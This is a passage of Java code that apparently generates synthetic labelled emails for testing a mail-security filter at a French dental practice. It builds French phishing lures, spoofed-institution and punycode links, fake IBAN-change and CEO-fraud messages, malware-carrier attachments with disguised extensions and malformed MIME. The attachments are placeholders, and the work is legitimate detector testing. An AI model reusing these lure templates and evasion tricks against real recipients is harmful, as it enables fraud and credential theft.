        .attach(pick(List.of("Document.html", "Facture_" + ref() + ".htm", "Releve.shtml")), "text/html",
            SyntheticAttachments.loginPage(inst[0], "https://" + pick(BAD_HOSTS) + "/post.php"))
        .build();
  }

  private byte[] qrCode() {
    String h = html("Bonjour,", "Pour des raisons de sécurité, votre authentification forte doit être renouvelée.",
        "<img src=\"cid:qr\" alt=\"\">", "Scannez ce QR code avec votre téléphone pour poursuivre.");
    return base(pick(List.of("Sécurité Messagerie", "Service Authentification", "Support MFA")), "securite@" + pick(List.of("auth-service.net",
        "mfa-update.com", "secure-mailbox.org")), "pass").subject("Renouvellement de votre authentification").html(h)
        .inlineImage("qr", "image/png", SyntheticAttachments.png(r.nextLong())).build();
  }

  private byte[] spoofedInstitution() {
    String[] from = pick(List.of(new String[] {"Assurance Maladie", "assurance-maladie@info.ameli.fr"},
        new String[] {"Urssaf", "notification@urssaf.fr"}, new String[] {"Doctolib", "no-reply@doctolib.fr"},
        new String[] {"Cabinet Martin", "comptabilite@" + PRACTICE_DOMAIN}));
    String h = html("Bonjour,", lure(), "<a href=\"https://" + pick(BAD_HOSTS) + "/dossier\">Mon dossier</a>");
    return base(from[0], from[1], "fail").subject("Action requise sur votre dossier").html(h).build();
  }

  private byte[] ibanChange() {
    String name = person();
    String t = "Bonjour Docteur,\n\nSuite à un changement de banque, merci de bien vouloir utiliser désormais nos nouvelles coordonnées"
        + " bancaires pour le règlement de la facture n°" + ref() + " (" + amount() + ").\n\nNouvel IBAN : FR76 3000 "
        + (1000 + r.nextInt(9000)) + " 0000 0000 0000 000\n\nMerci de traiter ce virement au plus vite.\n\n" + name + "\nComptabilité";
    String from = pick(List.of("dentaldepot-compta.com", "dental-depot.fr", "dentaIdepot.fr"));
    return base("DentalDepot Comptabilité", "compta@" + from, "pass").replyTo("dentaldepot.compta@" + pick(FREEMAIL))
        .subject("Changement de coordonnées bancaires").text(t).build();
  }

  private byte[] punycodeSender() {
    String domain = java.net.IDN.toASCII(pick(List.of("améli.fr", "urssâf.fr", "doctölib.fr", "amelï.fr")));
    String h = html("Bonjour,", lure(), "<a href=\"https://" + domain + "/espace\">Mon espace</a>");
    return base("Service client", "contact@" + domain, "pass").subject("Votre espace").html(h).build();
  }

  private byte[] userinfoLink() {
    String h = html("Bonjour,", lure(), "<a href=\"https://www.ameli.fr@" + pick(BAD_HOSTS) + "/assure\">Accéder à mon compte</a>");
    return base("Compte assuré", "info@" + pick(List.of("comptes-assures.net", "notif-assure.com")), "none").subject("Votre compte").html(h).build();
  }

  private byte[] ceoFraud() {
    String addr = pick(List.of("claire.martin.cabinet", "dr.martin.claire", "cmartin.dentiste", "claire.martin")) + r.nextInt(999)
        + "@" + pick(FREEMAIL);
    String body = pick(List.of(
        "Bonjour,\n\nEs-tu disponible ? J'ai besoin que tu effectues un virement urgent de " + amount() + " pour un nouveau fournisseur."
            + " Je suis en réunion, je t'envoie l'IBAN par retour. Reste discrète.\n\nClaire",
        "Bonjour,\n\nPeux-tu acheter 5 cartes cadeaux Google Play de 100 € pour remercier l'équipe ? Envoie-moi les codes en photo,"
            + " je te rembourse lundi.\n\nDr Martin",
        "Bonjour,\n\nJ'ai changé de banque : merci d'utiliser mon nouveau RIB pour le prochain versement de la rétrocession.\n\nClaire Martin"));
    return base(pick(List.of("Claire Martin", "Dr Martin", "Dr Claire Martin", "Cabinet Martin")), addr, "pass")
        .subject(pick(List.of("Demande rapide", "Urgent", "Confidentiel", "RIB"))).text(body).build();
  }

  private byte[] supplierBankChange() {
    String[] who = pick(List.of(new String[] {"DentalDepot", "DentalDepot Comptabilité"}, new String[] {"Labo Biomed", "Laboratoire Labo Biomed"},
        new String[] {"Logiciel Dentaire", "Logiciel Dentaire - Facturation"}));
    boolean free = r.nextBoolean();
    String addr = free ? ascii(who[0]).replace(".", "") + ".compta@" + pick(FREEMAIL)
        : "facturation@" + pick(List.of("groupe-gestion-pro.com", "services-compta.net", "pme-factures.fr"));
    String t = "Bonjour,\n\nNous vous informons d'un changement de banque. Merci d'enregistrer notre nouveau RIB pour le règlement de la"
        + " facture n°" + ref() + " (" + amount() + ") :\nIBAN FR76 1027 8000 " + (1000 + r.nextInt(9000)) + " 0000 0000 000\n\nCordialement,\n" + who[1];
    return base(who[1], addr, free ? "pass" : pick(List.of("pass", "none"))).subject("Mise à jour de nos coordonnées bancaires").text(t).build();
  }

  private byte[] paymentReplyTo() {
    String domain = pick(List.of("ferrand-expertise.fr", "transports-leduc.fr", "fournitures-bureau-ouest.com"));
    return base(pick(List.of("Service comptable", "Comptabilité", "Direction administrative")), "compta@" + domain, "pass")
        .replyTo("compta." + organisationLabel(domain) + "@" + pick(FREEMAIL)).subject("Facture en attente")
        .text("Bonjour,\n\nLa facture n°" + ref() + " reste impayée. Merci de procéder au virement aujourd'hui et de nous confirmer"
            + " l'opération en répondant à ce message.\n\nCordialement").build();
  }

  private static String organisationLabel(String domain) {
    return domain.substring(0, domain.indexOf('.'));
  }

  private byte[] unknownBrand() {
    String[] brand = pick(List.of(new String[] {"Chronopost", "suivi"}, new String[] {"Colis Privé", "colis"}, new String[] {"DPD France", "dpd"},
        new String[] {"Mondial Relay", "relais"}, new String[] {"EDF Service Client", "edf"}, new String[] {"TotalEnergies", "energie"},
        new String[] {"Netflix", "compte"}, new String[] {"SFR Facturation", "facture"}));
    String from = pick(List.of("notification@suivi-envoi24.com", "info@mail-service-clients.net", "noreply@alerte-client.org",
        "service@gestion-envois.info"));
    String bad = pick(List.of("reprogrammer-livraison.top", "paiement-frais.xyz", "mise-a-jour-abonnement.online", "regularisation-client.site"));
    String ask = pick(List.of("Des frais de livraison de 1,99 € restent à régler pour que votre colis soit livré.",
        "Votre dernier paiement a été refusé : mettez à jour votre carte bancaire pour éviter l'interruption du service.",
        "Un remboursement de " + amount() + " vous attend : connectez-vous avec vos identifiants pour le recevoir."));
    String h = html("Bonjour,", ask, "<a href=\"https://" + bad + "/" + brand[1] + "/" + ref() + "\">Continuer</a>");
    return base(brand[0], from, pick(List.of("pass", "none"))).subject(pick(List.of("Action requise", "Votre colis", "Paiement refusé")))
        .html(h).build();
  }

  private byte[] compromisedShare() {
    String name = person();
    String domain = pick(List.of("cabinet-kine-" + ascii(pick(LAST)) + ".fr", "pharmacie-du-port.fr", "orthodontie-" + ascii(pick(LAST)) + ".fr"));
    String target = pick(List.of("https://docview-" + ref() + ".web.app/share/index.html",
        "https://" + ref() + "-files.blob.core.windows.net/docs/view.html",
        "https://storage.googleapis.com/shared-" + ref() + "/document.html",
        "https://sites.google.com/view/partage-" + ref(),
        "https://www.atelier-poterie-" + ref() + ".com/wp-content/uploads/owa/login.php",
        "https://secure-docs-" + ref() + ".com/onedrive/signin?id=" + ref()));
    String text = pick(List.of("Ouvrir dans OneDrive", "Consulter le document", "Afficher le fichier"));
    String h = html("Bonjour,", name + " vous a partagé un document : « Devis_" + ref() + ".pdf ».",
        "<a href=\"" + target + "\">" + text + "</a>", "Ce lien expire dans 48 heures.");
    return base(name, ascii(name) + "@" + domain, "pass").subject(pick(List.of("Document partagé", name + " a partagé un fichier avec vous",
        "Devis à consulter"))).html(h).build();
  }

  private byte[] pdfLinkOnly() {
    String target = pick(List.of("https://" + pick(BAD_HOSTS) + "/doc/" + ref(), "https://facture-" + ref() + ".pages.dev/",
        "https://" + (80 + r.nextInt(100)) + ".12.34." + (1 + r.nextInt(200)) + "/f.php"));
    byte[] pdf = r.nextInt(4) == 0 ? SyntheticAttachments.pdf("Document disponible sur " + target)
        : SyntheticAttachments.pdfWithLink(pick(List.of(List.of("Document protege"), List.of("Cliquez pour afficher la facture"),
        List.of("Facture", "Afficher le document"), List.<String>of(), List.of("Votre document est pret.", "Il a ete partage de maniere securisee.",
            "Cliquez sur le bouton ci-dessous pour l'ouvrir dans votre navigateur.", "OUVRIR LE DOCUMENT"))), target, r.nextBoolean());
    String name = person();
    String domain = pick(List.of("menuiserie-" + ascii(pick(LAST)) + ".fr", "garage-central.fr", "agence-immo-" + ascii(pick(LAST)) + ".com"));
    return base(name, ascii(name) + "@" + domain, pick(List.of("pass", "none"))).subject(pick(List.of("Facture", "Document", "Votre devis")))
        .text("Bonjour,\n\nVeuillez trouver ci-joint le document.\n\nCordialement," + signature(name))
        .attach(pick(List.of("Facture_" + ref() + ".pdf", "Document.pdf", "Devis.pdf")), "application/pdf", pdf).build();
  }

  // ------------------------------------------------------------------ malware

  private List<Scenario> malware() {
    return List.of(
        new Scenario(Label.MALWARE, "malware-executable", () -> malware(pick(List.of("facture.exe", "scan_" + ref() + ".scr", "setup.com")),
            "application/octet-stream", SyntheticAttachments.windowsExecutable())),
        new Scenario(Label.MALWARE, "malware-disguised-pdf", () -> malware("Facture_" + ref() + ".pdf", "application/pdf",
            SyntheticAttachments.windowsExecutable())),
        new Scenario(Label.MALWARE, "malware-double-extension", () -> malware("Releve_honoraires.pdf.exe", "application/pdf",
            SyntheticAttachments.windowsExecutable())),
        new Scenario(Label.MALWARE, "malware-padded-extension", () -> malware("Commande_" + ref() + ".pdf" + " ".repeat(20 + r.nextInt(40)) + ".exe",
            "application/octet-stream", SyntheticAttachments.windowsExecutable())),
        new Scenario(Label.MALWARE, "malware-macro-ooxml", () -> malware("Facture_" + ref() + ".docm", "application/vnd.ms-word.document.macroEnabled.12",
            SyntheticAttachments.ooxml(true))),
        new Scenario(Label.MALWARE, "malware-macro-ole2", () -> malware(pick(List.of("commande.doc", "releve.xls")), "application/msword",
            SyntheticAttachments.ole2(true))),
        new Scenario(Label.MALWARE, "malware-shortcut", () -> malware("Document.lnk", "application/octet-stream", SyntheticAttachments.shortcut())),
        new Scenario(Label.MALWARE, "malware-disk-image", () -> malware(pick(List.of("Facture.iso", "Dossier.img")), "application/octet-stream",
            SyntheticAttachments.isoImage())),
        new Scenario(Label.MALWARE, "malware-zip-executable", () -> malware("documents_" + ref() + ".zip", "application/zip",
            SyntheticAttachments.zip(Map.of(pick(List.of("facture.pdf.exe", "releve.js", "scan.scr")), SyntheticAttachments.windowsExecutable())))),
        new Scenario(Label.MALWARE, "malware-encrypted-zip-password", this::encryptedZip),
        new Scenario(Label.MALWARE, "malware-script", () -> malware(pick(List.of("Paiement.js", "Facture.vbs", "Dossier.hta", "maj.ps1")),
            "text/plain", "WScript.Echo \"synthetic test fixture\"".getBytes(StandardCharsets.US_ASCII))),
        new Scenario(Label.MALWARE, "malware-zip-shortcut", () -> malware("Scan.zip", "application/zip",
            SyntheticAttachments.zip(Map.of("Scan.pdf.lnk", SyntheticAttachments.shortcut())))));
  }

  private MailComposer malwareCarrier() {
    String sender = pick(List.of("comptabilite@" + pick(List.of("fournisseur-med.com", "facturation-sud.fr", "transport-express.net")),
        ascii(person()) + "@" + pick(FREEMAIL), "scanner@" + pick(List.of("copieur-bureau.com", "office-scan.net"))));
    String text = pick(List.of("Bonjour,\n\nVeuillez trouver ci-joint la facture en attente de règlement.\n\nCordialement",
        "Bonjour,\n\nLe document scanné est en pièce jointe.",
        "Madame, Monsieur,\n\nSuite à notre échange, voici le relevé demandé. Merci de le traiter rapidement.\n\nBien à vous"));
    return base(pick(List.of("Comptabilité", "Scanner", "Service facturation", "Transport Express")), sender, pick(List.of("pass", "none")))
        .subject(pick(List.of("Facture impayée", "Document scanné", "Relevé", "Votre commande"))).text(text);
  }

  private byte[] malware(String name, String type, byte[] content) {
    return malwareCarrier().attach(name, type, content).build();
  }

  private byte[] encryptedZip() {
    String password = Integer.toString(1000 + r.nextInt(9000));
    byte[] zip = SyntheticAttachments.encryptedZip("Facture.exe", SyntheticAttachments.windowsExecutable(), password, r.nextLong());
    return malwareCarrier().text("Bonjour,\n\nVoici la facture. Pour des raisons de confidentialité elle est protégée.\n\nMot de passe : "
        + password + "\n\nCordialement").attach("Facture_" + ref() + ".zip", "application/zip", zip).build();
  }

  // ------------------------------------------------------------------ malformed

  private List<Scenario> malformed() {
    return List.of(
        new Scenario(Label.MALFORMED, "malformed-garbage", () -> {
          byte[] b = new byte[200 + r.nextInt(2000)];
          r.nextBytes(b);
          return b;
        }),
        new Scenario(Label.MALFORMED, "malformed-no-from", () -> ("To: " + TO + "\r\nSubject: test\r\n\r\nBonjour\r\n").getBytes(StandardCharsets.US_ASCII)),
        new Scenario(Label.MALFORMED, "malformed-broken-multipart", () -> ("From: a@exemple-envoi.fr\r\nTo: " + TO
            + "\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"zzz\"\r\n\r\n--yyy\r\nContent-Type: text/plain\r\n\r\nhello\r\n")
            .getBytes(StandardCharsets.US_ASCII)),
        new Scenario(Label.MALFORMED, "malformed-deep-nesting", () -> nested(500)),
        new Scenario(Label.MALFORMED, "malformed-empty", () -> new byte[0]),
        new Scenario(Label.MALFORMED, "malformed-bad-from", () -> ("From: =?utf-8?B?!!!?= <<<@@>\r\nTo: " + TO
            + "\r\nSubject: x\r\n\r\nBonjour\r\n").getBytes(StandardCharsets.US_ASCII)));
  }

  /**
   * A message with {@code depth} nested multiparts.
   *
   * @param depth the nesting depth
   * @return the bytes
   */
  public static byte[] nested(int depth) {
    StringBuilder b = new StringBuilder("From: a@exemple-envoi.fr\r\nTo: " + TO + "\r\nSubject: nested\r\nMIME-Version: 1.0\r\n");
    for (int i = 0; i < depth; i++) {
      b.append("Content-Type: multipart/mixed; boundary=\"b").append(i).append("\"\r\n\r\n--b").append(i).append("\r\n");
    }
    b.append("Content-Type: text/plain\r\n\r\nfond\r\n");
    for (int i = depth - 1; i >= 0; i--) {
      b.append("--b").append(i).append("--\r\n");
    }
    return b.toString().getBytes(StandardCharsets.US_ASCII);
  }
}
